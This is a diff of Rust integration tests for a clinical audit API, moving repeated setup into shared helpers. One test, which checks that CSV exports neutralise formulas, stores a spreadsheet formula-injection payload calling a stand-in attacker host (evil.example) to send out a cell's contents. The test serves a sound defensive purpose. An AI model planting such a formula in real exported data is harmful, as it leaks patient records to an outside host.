@@ -11,8 +11,10 @@ use prolo_audit_api::{ApiSettings, Principals};
 use prolo_bus::{STREAM_NAME, Trigger};
 use prolo_projector::ProjectorSettings;
 use prolo_schemas::EventType::*;
-use prolo_tests::{NatsServer, Recorders, example_request, record_ok};
+use prolo_tests::{NatsServer, Stack, example_request, record_ok};
 use serde_json::{Value, json};
+
+use crate::common::{ApiOptions, StartedApi, start_api};
 
 const COMPLIANCE: &str = "compliance-token-0123456789";
 const SAFETY: &str = "safety-token-0123456789abc";
@@ -37,44 +39,27 @@ impl Api {
 
     /// An API answering at most `max_in_flight` requests at once.
     async fn start_limited(nats: &NatsServer, max_in_flight: usize) -> Api {
-        let principals = Principals::parse(&format!(
-            r#"{{"tokens":[
+        let options = ApiOptions {
+            tokens: format!(
+                r#"{{"tokens":[
                 {{"token":"{COMPLIANCE}","principal":"officer-lee","role":"compliance","clinics":["*"]}},
                 {{"token":"{SAFETY}","principal":"reviewer-ng","role":"safety","clinics":["riverside"]}},
                 {{"token":"{SERVICE}","principal":"ehr","role":"service","clinics":["riverside"]}}]}}"#
-        ))
-        .unwrap();
-        let db = tempfile::tempdir().unwrap();
-        let settings = ApiSettings {
-            listen: "127.0.0.1:0".parse().unwrap(),
-            db: db.path().join("api.sled"),
-            cache_bytes: 32 << 20,
-            projector: ProjectorSettings {
-                consumer: "audit-api".into(),
-                idle_wait: Duration::from_millis(50),
-                ..ProjectorSettings::default()
-            },
-            broker: None,
+            ),
             max_in_flight,
+            probe_broker: true,
+            ..ApiOptions::default()
         };
-        let (trigger, shutdown) = prolo_bus::Shutdown::new();
-        let (tx, rx) = tokio::sync::oneshot::channel();
-        let client = nats.client().await.unwrap();
-        let settings = ApiSettings {
-            broker: Some(prolo_bus::durability::probe(&client, &nats.monitor_url().unwrap()).await),
-            ..settings
-        };
-        let task = tokio::spawn(async move {
-            prolo_audit_api::run(client, principals, settings, shutdown, |addr| {
-                let _ = tx.send(addr);
-            })
-            .await
-            .unwrap();
-        });
-        let addr = rx.await.unwrap();
+        let StartedApi {
+            base,
+            db,
+            trigger,
+            task,
+            ..
+        } = start_api(nats, options).await;
         let http = reqwest::Client::new();
         let openapi = http
-            .get(format!("http://{addr}/openapi.json"))
+            .get(format!("{base}/openapi.json"))
             .send()
             .await
             .unwrap()
@@ -82,7 +67,7 @@ impl Api {
             .await
             .unwrap();
         Api {
-            base: format!("http://{addr}"),
+            base,
             http,
             openapi,
             validators: Default::default(),
@@ -226,9 +211,7 @@ async fn access_events(js: &jetstream::Context) -> u64 {
 
 #[tokio::test]
 async fn the_api_answers_exactly_what_was_recorded_and_audits_every_read() {
-    let nats = NatsServer::start().await.unwrap();
-    let recorders = Recorders::start(&nats.url()).await.unwrap();
-    let client = nats.client().await.unwrap();
+    let (nats, recorders, client) = Stack::start().await.parts();
     let js = jetstream::new(client.clone());
 
     record_ok(
@@ -563,9 +546,7 @@ async fn the_api_answers_exactly_what_was_recorded_and_audits_every_read() {
 
 #[tokio::test]
 async fn paging_through_a_large_history_returns_every_item_once() {
-    let nats = NatsServer::start().await.unwrap();
-    let recorders = Recorders::start(&nats.url()).await.unwrap();
-    let client = nats.client().await.unwrap();
+    let (nats, recorders, client) = Stack::start().await.parts();
     let mut recorded = Vec::new();
     let mut consents = Vec::new();
     for i in 0..230 {
@@ -629,9 +610,7 @@ async fn paging_through_a_large_history_returns_every_item_once() {
 
 #[tokio::test]
 async fn findings_and_signals_are_queryable_by_rule_status_and_patient() {
-    let nats = NatsServer::start().await.unwrap();
-    let recorders = Recorders::start(&nats.url()).await.unwrap();
-    let client = nats.client().await.unwrap();
+    let (nats, recorders, client) = Stack::start().await.parts();
     record_ok(
         &client,
         PractitionerCredentialed,
@@ -767,9 +746,7 @@ async fn publish_forged(js: &jetstream::Context, event: &prolo_schemas::Envelope
 
 #[tokio::test]
 async fn the_streams_clock_is_the_recorded_time_and_a_forged_recorded_at_bends_nothing() {
-    let nats = NatsServer::start().await.unwrap();
-    let recorders = Recorders::start(&nats.url()).await.unwrap();
-    let client = nats.client().await.unwrap();
+    let (nats, recorders, client) = Stack::start().await.parts();
     let js = jetstream::new(client.clone());
     let now = chrono::Utc::now();
     let at =
@@ -866,9 +843,7 @@ async fn the_streams_clock_is_the_recorded_time_and_a_forged_recorded_at_bends_n
 
 #[tokio::test]
 async fn a_riverside_token_reads_riverside_only() {
-    let nats = NatsServer::start().await.unwrap();
-    let recorders = Recorders::start(&nats.url()).await.unwrap();
-    let client = nats.client().await.unwrap();
+    let (nats, recorders, client) = Stack::start().await.parts();
     let mut northside = example_request("injection.given");
     northside["clinic_id"] = "northside".into();
     let theirs = record_ok(&client, InjectionGiven, &northside).await;
@@ -912,9 +887,7 @@ async fn a_riverside_token_reads_riverside_only() {
 
 #[tokio::test]
 async fn csv_exports_neutralise_formulas_and_carry_the_clinical_facts() {
-    let nats = NatsServer::start().await.unwrap();
-    let recorders = Recorders::start(&nats.url()).await.unwrap();
-    let client = nats.client().await.unwrap();
+    let (nats, recorders, client) = Stack::start().await.parts();
     let mut injection = example_request("injection.given");
     injection["actor"]["id"] = r#"=HYPERLINK("http://evil.example/?"&B2,"open")"#.into();
     record_ok(&client, InjectionGiven, &injection).await;
@@ -985,9 +958,7 @@ async fn csv_exports_neutralise_formulas_and_carry_the_clinical_facts() {
 
 #[tokio::test]
 async fn out_of_range_parameters_are_refused_naming_the_parameter() {
-    let nats = NatsServer::start().await.unwrap();
-    let recorders = Recorders::start(&nats.url()).await.unwrap();
-    let client = nats.client().await.unwrap();
+    let (nats, recorders, client) = Stack::start().await.parts();
     let injection = record_ok(&client, InjectionGiven, &example_request("injection.given")).await;
     let mut report = example_request("adverse_event.reported");
     report["payload"]["linked_injection"]["event_id"] = injection.event_id.to_string().into();
@@ -1045,9 +1016,7 @@ async fn reads_of(api: &Api, patient: &str) -> Vec<String> {
 
 #[tokio::test]
 async fn every_patient_an_answer_exposes_has_the_read_on_their_access_log() {
-    let nats = NatsServer::start().await.unwrap();
-    let recorders = Recorders::start(&nats.url()).await.unwrap();
-    let client = nats.client().await.unwrap();
+    let (nats, recorders, client) = Stack::start().await.parts();
     for patient in ["P-1042", "P-2000", "P-3000"] {
         let mut injection = example_request("injection.given");
         injection["patient_id"] = patient.into();
@@ -1121,9 +1090,7 @@ async fn the_public_example_tokens_are_refused_off_loopback() {
 
 #[tokio::test]
 async fn findings_and_lot_traces_are_paged() {
-    let nats = NatsServer::start().await.unwrap();
-    let recorders = Recorders::start(&nats.url()).await.unwrap();
-    let client = nats.client().await.unwrap();
+    let (nats, recorders, client) = Stack::start().await.parts();
     for i in 0..5 {
         let mut injection = example_request("injection.given");
         injection["patient_id"] = format!("P-PAGE-{i}").into();
@@ -1229,9 +1196,7 @@ async fn findings_and_lot_traces_are_paged() {
 
 #[tokio::test]
 async fn refused_requests_are_recorded_without_the_token_and_a_flood_is_capped() {
-    let nats = NatsServer::start().await.unwrap();
-    let recorders = Recorders::start(&nats.url()).await.unwrap();
-    let client = nats.client().await.unwrap();
+    let (nats, recorders, client) = Stack::start().await.parts();
     record_ok(&client, InjectionGiven, &example_request("injection.given")).await;
     let api = Api::start(&nats).await;
     api.caught_up().await;
@@ -1419,9 +1384,7 @@ async fn reads_of_events(api: &Api, patient: &str) -> Vec<Value> {
 
 #[tokio::test]
 async fn requests_beyond_the_concurrency_limit_wait_their_turn() {
-    let nats = NatsServer::start().await.unwrap();
-    let recorders = Recorders::start(&nats.url()).await.unwrap();
-    let client = nats.client().await.unwrap();
+    let (nats, recorders, client) = Stack::start().await.parts();
     record_ok(&client, InjectionGiven, &example_request("injection.given")).await;
     let api = Api::start_limited(&nats, 1).await;
     api.caught_up().await;
@@ -1481,9 +1444,7 @@ async fn requests_beyond_the_concurrency_limit_wait_their_turn() {
 /// signature's hash is that of the injection as stored.
 #[tokio::test]
 async fn a_clinic_day_is_on_the_history_with_the_signature_beside_the_injection() {
-    let nats = NatsServer::start().await.unwrap();
-    let recorders = Recorders::start(&nats.url()).await.unwrap();
-    let client = nats.client().await.unwrap();
+    let (nats, recorders, client) = Stack::start().await.parts();
     let js = jetstream::new(client.clone());
     let day = [
         ScreeningDone,
